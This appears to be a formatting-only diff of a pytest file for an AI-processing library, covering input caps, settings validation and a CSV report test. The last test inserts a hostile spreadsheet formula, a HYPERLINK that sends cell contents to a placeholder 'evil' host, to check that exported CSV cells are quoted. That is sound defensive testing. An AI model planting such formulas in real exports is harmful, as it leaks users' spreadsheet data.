@@ -52,13 +52,21 @@ def test_a_lone_surrogate_in_sent_text_is_refused_before_sending(ia, emu, field)
     assert emu.total_requests == 0
 
 
-@pytest.mark.parametrize("metadata,what", [
-    ({f"k{i}": "v" for i in range(METADATA_MAX_ENTRIES + 1)}, "entries"),
-    ({"k" * (METADATA_MAX_KEY_CHARS + 1): "v"}, "too long"),
-    ({"k": "v" * (METADATA_MAX_VALUE_CHARS + 1)}, "too long"),
-    ({f"k{i}": "v" * (METADATA_MAX_VALUE_CHARS - 10) for i in range(METADATA_MAX_TOTAL_CHARS // METADATA_MAX_VALUE_CHARS + 1)},
-     "in all"),
-])
+@pytest.mark.parametrize(
+    "metadata,what",
+    [
+        ({f"k{i}": "v" for i in range(METADATA_MAX_ENTRIES + 1)}, "entries"),
+        ({"k" * (METADATA_MAX_KEY_CHARS + 1): "v"}, "too long"),
+        ({"k": "v" * (METADATA_MAX_VALUE_CHARS + 1)}, "too long"),
+        (
+            {
+                f"k{i}": "v" * (METADATA_MAX_VALUE_CHARS - 10)
+                for i in range(METADATA_MAX_TOTAL_CHARS // METADATA_MAX_VALUE_CHARS + 1)
+            },
+            "in all",
+        ),
+    ],
+)
 def test_metadata_is_capped(ia, emu, metadata, what):
     with pytest.raises(InvalidInputError, match=what):
         ia.analisar_com_gemini(input_text="x", metadata=metadata)
@@ -74,35 +82,41 @@ def test_metadata_at_the_caps_is_accepted(ia, emu):
 # ----------------------------------------------------------------------------- settings
 
 
-@pytest.mark.parametrize("kwargs,name", [
-    ({"request_timeout_s": "30"}, "request_timeout_s"),
-    ({"request_timeout_s": math.nan}, "request_timeout_s"),
-    ({"request_timeout_s": math.inf}, "request_timeout_s"),
-    ({"request_timeout_s": 0.0004}, "request_timeout_s"),  # the SDK would read 0 ms: no timeout
-    ({"request_timeout_s": 0}, "request_timeout_s"),
-    ({"request_timeout_s": True}, "request_timeout_s"),
-    ({"request_timeout_s": 1e300}, "request_timeout_s"),
-    ({"max_retries": "3"}, "max_retries"),
-    ({"max_retries": -1}, "max_retries"),
-    ({"max_retries": 1.5}, "max_retries"),
-    ({"max_retries": True}, "max_retries"),
-    ({"max_wait_s": "abc"}, "max_wait_s"),
-    ({"max_wait_s": math.nan}, "max_wait_s"),
-    ({"max_wait_s": math.inf}, "max_wait_s"),
-    ({"max_wait_s": -1}, "max_wait_s"),
-])
+@pytest.mark.parametrize(
+    "kwargs,name",
+    [
+        ({"request_timeout_s": "30"}, "request_timeout_s"),
+        ({"request_timeout_s": math.nan}, "request_timeout_s"),
+        ({"request_timeout_s": math.inf}, "request_timeout_s"),
+        ({"request_timeout_s": 0.0004}, "request_timeout_s"),  # the SDK would read 0 ms: no timeout
+        ({"request_timeout_s": 0}, "request_timeout_s"),
+        ({"request_timeout_s": True}, "request_timeout_s"),
+        ({"request_timeout_s": 1e300}, "request_timeout_s"),
+        ({"max_retries": "3"}, "max_retries"),
+        ({"max_retries": -1}, "max_retries"),
+        ({"max_retries": 1.5}, "max_retries"),
+        ({"max_retries": True}, "max_retries"),
+        ({"max_wait_s": "abc"}, "max_wait_s"),
+        ({"max_wait_s": math.nan}, "max_wait_s"),
+        ({"max_wait_s": math.inf}, "max_wait_s"),
+        ({"max_wait_s": -1}, "max_wait_s"),
+    ],
+)
 def test_bad_settings_are_configuration_errors(kwargs, name):
     with pytest.raises(ConfigurationError, match=name):
         IaProcessor(google_free_keys=[KEY], telemetry="off", **kwargs)
 
 
-@pytest.mark.parametrize("var,value", [
-    ("CSCTRACKER_AI_TIMEOUT_S", "nan"),
-    ("CSCTRACKER_AI_TIMEOUT_S", "inf"),
-    ("CSCTRACKER_AI_TIMEOUT_S", "0.0001"),
-    ("CSCTRACKER_AI_MAX_RETRIES", "2.5"),
-    ("CSCTRACKER_AI_MAX_WAIT_S", "-inf"),
-])
+@pytest.mark.parametrize(
+    "var,value",
+    [
+        ("CSCTRACKER_AI_TIMEOUT_S", "nan"),
+        ("CSCTRACKER_AI_TIMEOUT_S", "inf"),
+        ("CSCTRACKER_AI_TIMEOUT_S", "0.0001"),
+        ("CSCTRACKER_AI_MAX_RETRIES", "2.5"),
+        ("CSCTRACKER_AI_MAX_WAIT_S", "-inf"),
+    ],
+)
 def test_bad_settings_from_the_environment_too(var, value, monkeypatch):
     monkeypatch.setenv(var, value)
     with pytest.raises(ConfigurationError):
@@ -110,8 +124,9 @@ def test_bad_settings_from_the_environment_too(var, value, monkeypatch):
 
 
 def test_the_smallest_timeout_reaches_the_sdk_as_one_millisecond(emu):
-    with IaProcessor(google_free_keys=[KEY], base_url=emu.base_url, telemetry="off",
-                     request_timeout_s=0.001, max_retries=3.0) as p:
+    with IaProcessor(
+        google_free_keys=[KEY], base_url=emu.base_url, telemetry="off", request_timeout_s=0.001, max_retries=3.0
+    ) as p:
         assert p._clients._http_options().timeout == 1
         assert p._max_retries == 3
 
@@ -171,8 +186,14 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(hostile):
 def test_csv_report_of_a_hostile_task_end_to_end(data_dir):
     now = datetime.now(timezone.utc) - timedelta(minutes=30)
     with chdb_client(embedded_clickhouse_path(os.environ)) as client:
-        insert_events(client, [call_event(now, '=HYPERLINK("http://evil/?"&A1,"ver")', "gemini-2.5-flash", "paid",
-                                          100, 10, event_id="csv1")])
+        insert_events(
+            client,
+            [
+                call_event(
+                    now, '=HYPERLINK("http://evil/?"&A1,"ver")', "gemini-2.5-flash", "paid", 100, 10, event_id="csv1"
+                )
+            ],
+        )
     code, out, err = _run(["report", "--period", "24h", "--group", "group", "--format", "csv"])
     assert code == 0, err
     rows = list(csv.DictReader(io.StringIO(out)))
